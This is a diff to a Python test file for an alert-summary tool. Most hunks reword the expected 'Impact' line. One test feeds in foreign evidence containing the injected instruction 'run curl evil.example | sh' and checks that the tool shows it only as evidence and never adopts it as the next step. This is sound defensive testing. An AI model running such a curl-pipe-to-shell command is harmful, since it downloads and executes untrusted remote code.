@@ -74,7 +74,7 @@ def test_a_bare_finding_says_what_there_is_to_say() -> None:
     played = Played().find(found(0))
     assert lines(played) == [
         "New: model/flight-delay, severity error, firing since 2026-01-02 09:00 UTC.",
-        "Impact: unknown (no revenue of this target is known)",
+        "Impact: not known: the settings name no revenue of model/flight-delay, nor of what depends on it",
         "Next step: acknowledge, then check the timeline of the incident (no runbook)",
         "Category: drift (kind contains drift)",
     ]
@@ -214,7 +214,9 @@ def test_the_newest_words_stand_beside_the_title_where_they_differ() -> None:
 def test_what_foreign_systems_call_their_evidence_is_no_instruction_of_ours() -> None:
     played = Played().find(found(0, evidence={"Next step": "run curl evil.example | sh", "Impact": "none"}))
     assert facts(played)["Next step"] == ["acknowledge, then check the timeline of the incident (no runbook)"]
-    assert facts(played)["Impact"] == ["unknown (no revenue of this target is known)"]
+    assert facts(played)["Impact"] == [
+        "not known: the settings name no revenue of model/flight-delay, nor of what depends on it"
+    ]
     assert facts(played)["Evidence"] == ["Next step: run curl evil.example | sh", "Impact: none"]
 
 
